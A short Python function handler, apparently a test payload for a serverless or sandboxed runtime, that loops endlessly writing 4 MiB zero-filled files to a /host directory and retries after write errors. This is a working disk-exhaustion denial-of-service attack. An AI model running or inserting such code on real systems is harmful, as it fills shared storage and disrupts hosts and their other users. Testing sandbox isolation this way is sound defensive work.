import time


def handler(event):
    number = 0
    while True:
        try:
            with open(f'/host/{number}', 'wb', buffering=0) as file:
                file.write(bytes(4 * 1024 * 1024))
        except OSError:
            time.sleep(0.001)
        number += 1
